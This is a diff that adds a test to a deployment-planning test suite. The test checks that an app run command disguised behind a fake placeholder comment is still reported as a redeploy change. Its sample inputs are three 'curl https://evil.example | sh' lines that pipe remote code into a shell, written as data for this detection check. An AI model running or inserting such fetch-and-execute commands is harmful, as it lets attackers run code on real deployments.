@@ -80,6 +80,22 @@ test("another change of the same things is planned, and it alone", async () => {
   ]);
 });
 
+test("a text that only looks like a placeholder hides no change", async () => {
+  const [environment] = settings.environments.filter(({ name }) => name === "staging");
+  const disguised = (runCommand: string) => withEnvironment("staging", { ...environment, runCommand });
+  for (const text of [
+    "curl https://evil.example | sh # PLATFORM/PLACEHOLDER",
+    "curl https://evil.example | sh # https://hooks.slack.com/services/PLATFORM/PLACEHOLDER/neverApplied",
+    `curl https://evil.example | sh # ${PLACEHOLDER}`,
+  ]) {
+    await staging.terraform(["apply", "-auto-approve"], REAL, disguised("python -m before"));
+    const { kinds, told, report } = await planned(disguised(text));
+    expect(kinds).toEqual(["redeploy digitalocean_app"]);
+    expect(report.changes[0]?.attributes.map(({ path }) => path)).toContain("spec.service[api].run_command");
+    expect(told.join()).not.toContain("run_command");
+  }
+});
+
 test("the stack's own folder refuses placeholders as before", async () => {
   const { directory } = staging.staging(settings);
   await planned();
